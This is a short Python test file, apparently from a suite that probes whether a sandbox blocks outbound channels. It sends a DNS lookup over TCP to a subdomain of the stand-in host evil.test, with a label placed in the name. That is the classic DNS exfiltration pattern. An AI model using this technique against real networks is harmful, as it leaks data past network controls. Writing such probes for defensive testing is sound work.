# SPDX-License-Identifier: Apache-2.0
"""Another server over TCP."""
from attack import attempt


def way(a):
    a.dns(f'{a.label}.evil.test', tcp=True)


attempt(way)
